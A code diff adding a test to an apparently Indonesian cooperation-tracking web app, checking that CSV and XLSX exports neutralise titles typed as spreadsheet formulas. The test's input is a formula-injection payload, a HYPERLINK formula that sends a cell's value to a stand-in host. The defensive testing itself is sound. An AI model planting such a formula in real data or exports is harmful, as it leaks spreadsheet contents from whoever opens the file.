@@ -405,3 +405,23 @@ def test_imported_running_cooperation_is_armed_as_signing_would_arm_it(app, web,
             app.extensions.pop("sikd_clock", None)
         else:
             app.extensions["sikd_clock"] = previous
+
+
+def test_exported_text_never_runs_as_a_formula(app, web, api):
+    """A title typed as a formula (by anyone who can create a cooperation) is text in the CSV
+    (a leading apostrophe) and a text cell in the XLSX, never a formula someone else's
+    spreadsheet would run."""
+    from sikd.testing.journeys import SISTER_CITY
+
+    title = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'
+    created = api("32.75", "opd").post("/api/v1/cooperations", json={**SISTER_CITY, "title": title})
+    assert created.status_code == 201, created.get_json()
+    client = web("32.75", ["tkksd"])
+    rows = list(
+        csv.reader(io.StringIO(client.get("/kerja-sama/ekspor.csv").data.decode("utf-8-sig")))
+    )
+    cells = [c for r in rows for c in r]
+    assert "'" + title in cells and title not in cells
+    book = load_workbook(io.BytesIO(client.get("/kerja-sama/ekspor.xlsx").data))
+    typed = [c for row in book.active.iter_rows() for c in row if c.value == title]
+    assert typed and all(c.data_type == "s" for c in typed)
